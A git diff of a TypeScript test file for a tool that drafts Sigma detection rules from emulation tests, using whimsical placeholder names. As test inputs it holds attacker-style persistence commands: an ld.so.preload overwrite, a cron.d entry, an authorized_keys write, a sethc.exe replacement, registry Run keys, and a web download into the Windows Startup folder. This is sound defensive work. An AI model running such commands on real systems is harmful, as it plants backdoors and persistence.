@@ -1,4 +1,5 @@
 import { expect, test } from 'vitest';
+import { parse } from 'yaml';
 import { draftRules, type DraftGrounds } from '../../../../src/analysis/sigma/drafts/draft-rules.ts';
 import { tracesOf } from '../../../../src/analysis/sigma/drafts/traces.ts';
 import type { EmulationTest } from '../../../../src/answers/index.ts';
@@ -7,6 +8,7 @@ import { readTest } from '../../../support/atomics.ts';
 
 const whelk = readTest(1, {
   executor: 'command_prompt',
+  technique: 'T9012.001',
   command: 'whelk.exe /collect C:\\beach\\*.shell "#{depth}"',
   arguments: [{ name: 'depth', description: '', type: 'string', fallback: 'ten * fathoms' }],
 });
@@ -29,10 +31,12 @@ function grounds(own: readonly EmulationTest[], others: readonly EmulationTest[]
         platforms: ['Windows'],
         description: 'Shells that leave the beach.\nAt night.',
         logSources: [{ name: 'WinEventLog:Sysmon', channel: 'EventCode=1', component: 'Process Creation' }],
+        tuning: [{ field: 'TideWindow', description: 'How long the beach is dry.' }],
       },
     ],
     traces: own.flatMap(tracesOf),
-    others: others.flatMap(tracesOf),
+    othersIn: ({ product, category }) =>
+      others.flatMap(tracesOf).filter(({ log }) => log.product === product && log.category === category),
     library: 'tests.zip',
   };
 }
@@ -48,12 +52,15 @@ test('a draft is valid by schema and conventions, matches its event, and says wh
     # TODO Hold it against a month of your own logs, and add filters: it was held against made-up events only.
     # TODO It matches 0 of 0 events made from tests of other techniques.
     # TODO Compare with what AN9001 of ATT&CK looks for: Shells that leave the beach. At night.
-    title: Draft - Shells Via Post - Process Creation on Windows
+    # TODO AN9001 looks in WinEventLog:Sysmon (EventCode=1).
+    # TODO Set what AN9001 calls TideWindow: How long the beach is dry.
+    title: Draft - Shells via Post - Whelk on Windows
     id: f54306b0-703d-59a6-83a5-5d3b59e9d403
     status: experimental
     description: "Detects what 1 test of T9012.001 in tests.zip would leave in this log, by ATT&CK 1.0. A draft: it was proven on 1 event made from these tests, and on nothing else."
     references:
       - "Test 00000000-0000-4000-8000-000000000001: Test 1"
+      - "Analytic AN9001 of MITRE ATT&CK 1.0"
     author: Foeprint
     date: "2024-03-03"
     tags:
@@ -98,12 +105,110 @@ test.for<[string, DraftGrounds, object]>([
   [
     'a command that says nothing',
     grounds([readTest(3, { executor: 'command_prompt', command: 'whelk.exe /a' })]),
-    { reason: 'no-command' },
+    {
+      reason: 'no-command',
+      analytics: [{ analytic: 'AN9001', logs: ['windows process_creation', 'windows sysmon'] }],
+    },
   ],
   ['what many others do', grounds([whelk], same(4)), { reason: 'too-broad' }],
   ['what few others do', grounds([whelk], same(3)), { drafts: [{ others: 3, othersMatched: 3 }] }],
 ])('%s', ([, asked, outcome]) => {
   expect(draftRules(asked)).toMatchObject(outcome);
+});
+
+/** The selections of the draft for a log. */
+function selectionsOf(
+  category: string,
+  tests: readonly EmulationTest[],
+  more: Partial<DraftGrounds> = {},
+): unknown {
+  const made = draftRules({ ...grounds(tests), ...more });
+  const draft = 'drafts' in made ? made.drafts.find((each) => each.category === category) : undefined;
+  if (draft === undefined) return undefined;
+  expect(checkRules(draft.path, draft.text).issues).toEqual([]);
+  expect(draft.proven).toBeGreaterThanOrEqual(tests.length);
+  const { condition: _, ...selections }: Record<string, unknown> = parse(draft.text).detection;
+  return Object.values(selections);
+}
+
+const registry = (key: string): object => ({ 'TargetObject|endswith': key });
+
+test.for<[executor: string, command: string, selections: readonly object[] | undefined]>([
+  [
+    'command_prompt',
+    'reg add "HKLM\\Software\\Beach\\Shells" /v HideTides /t REG_DWORD /d 1 /f',
+    [{ ...registry('\\Software\\Beach\\Shells\\HideTides'), Details: 'DWORD (0x00000001)' }],
+  ],
+  [
+    'powershell',
+    'New-ItemProperty -Path "HKCU:\\Software\\Beach" -Name HideTides -PropertyType DWord -Value 0x1f -Force\nSet-ItemProperty HKCU:\\Software\\Beach HideShells 31 -Type DWord',
+    [
+      {
+        'TargetObject|endswith': ['\\Software\\Beach\\HideTides', '\\Software\\Beach\\HideShells'],
+        Details: 'DWORD (0x0000001f)',
+      },
+    ],
+  ],
+  // What is given, and what the author called something, is left out; the key has to say enough by itself.
+  [
+    'command_prompt',
+    'reg add HKCU\\Software\\Beach\\Whelk\\Run /v "Atomic Shell" /d #{program}',
+    [{ 'TargetObject|contains': '\\Software\\Beach\\Whelk\\Run\\' }],
+  ],
+  ['command_prompt', 'reg add HKLM\\System\\Beach\\#{name} /v Shells', undefined],
+  ['command_prompt', 'reg query HKLM\\Software\\Beach\\Whelk\\Run /v Shells', undefined],
+])('%s: what %s sets in the registry', ([executor, command, selections]) => {
+  expect(selectionsOf('registry_set', [readTest(5, { executor, command })])).toEqual(selections);
+});
+
+const file = (path: string, how = 'endswith'): readonly object[] => [{ [`TargetFilename|${how}`]: path }];
+
+test.for<[executor: string, command: string, selections: readonly object[] | undefined]>([
+  ['sh', 'whelk > /etc/cron.d/#{name}', file('/etc/cron.d/', 'contains')],
+  ['sh', 'cp #{shell} /etc/ld.so.preload', file('/etc/ld.so.preload')],
+  ['sh', 'touch ~/.ssh/authorized_keys', file('/.ssh/authorized_keys')],
+  ['sh', 'whelk > ~/.bash_login', file('/.bash_login')],
+  // The file is there already, so that none is made.
+  ['sh', 'whelk >> ~/.bash_login', undefined],
+  ['sh', 'whelk > /tmp/shells; whelk > /etc/atomic.conf; whelk > shells', undefined],
+  [
+    'command_prompt',
+    'copy #{shell} C:\\Windows\\System32\\sethc.exe /Y',
+    file('\\Windows\\System32\\sethc.exe'),
+  ],
+  [
+    'powershell',
+    'Invoke-WebRequest #{url} -OutFile "$env:APPDATA\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\x.vbs"',
+    file('\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\', 'contains'),
+  ],
+  ['powershell', 'Copy-Item -Path a.dll -Destination $folder\\b.dll', undefined],
+])('%s: what file %s makes', ([executor, command, selections]) => {
+  const platforms = executor === 'sh' ? ['linux'] : ['windows'];
+  expect(selectionsOf('file_event', [readTest(6, { executor, command, platforms })])).toEqual(selections);
+});
+
+test('a host says something only where others are talked to', () => {
+  const command = 'Invoke-RestMethod https://paste.beach/api; iwr https://github.com/x; iwr #{url}';
+  const tests = [
+    readTest(7, {
+      executor: 'powershell',
+      command,
+      arguments: [{ name: 'url', description: '', type: 'url', fallback: 'https://shells.beach' }],
+    }),
+  ];
+  expect(selectionsOf('dns_query', tests, { tactics: ['exfiltration'] })).toEqual([
+    { QueryName: 'paste.beach' },
+  ]);
+  expect(selectionsOf('dns_query', tests)).toBeUndefined();
+});
+
+test('of two selections that match the same the wider one is left, and those that differ in one value are one', () => {
+  const tests = ['whelk.exe /collect', 'whelk.exe /collect periwinkle', 'whelk.exe /scatter'].map(
+    (command, at) => readTest(30 + at, { executor: 'command_prompt', command }),
+  );
+  expect(selectionsOf('process_creation', tests)).toEqual([
+    { 'Image|endswith': '\\whelk.exe', 'CommandLine|contains': [' /collect', ' /scatter'] },
+  ]);
 });
 
 test('the text of a test cannot leave its place in the rule', () => {
